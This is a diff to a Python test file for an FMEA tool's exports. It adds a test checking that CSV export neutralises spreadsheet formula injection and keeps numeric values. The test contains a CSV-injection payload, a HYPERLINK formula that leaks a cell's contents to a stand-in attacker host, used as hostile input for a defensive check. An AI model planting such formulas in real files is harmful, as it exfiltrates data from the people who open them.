@@ -1,5 +1,7 @@
 """Each tool validates what it is given, draws a picture and exports (CSV, JSON, SVG, PDF)."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -217,6 +219,26 @@ def test_fmea_csv_includes_the_rpn(project):
     )
     header, row = export_csv(tool).splitlines()
     assert header.endswith("RPN,Revised RPN") and row.endswith(",80,")
+
+
+def test_a_tool_export_neutralises_spreadsheet_formulas_and_keeps_numbers(
+    world, client_for, project
+):
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the audit")'
+    tool = new_tool(
+        project,
+        "fmea",
+        {"process": "x"},
+        [{"failure_mode": formula, "effect": "@SUM(1)", "severity": 8, "occurrence": 2,
+          "detection": 5}],
+    )  # fmt: skip
+    response = client_for(world.member).get(
+        reverse("improvement:tool-export", args=[tool.pk, "csv"])
+    )
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["Failure mode"] == "'" + formula and row["Effect"] == "'@SUM(1)"
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
+    assert (row["Severity"], row["RPN"]) == ("8", "80")
 
 
 def test_tool_text_that_identifies_a_patient_is_refused():
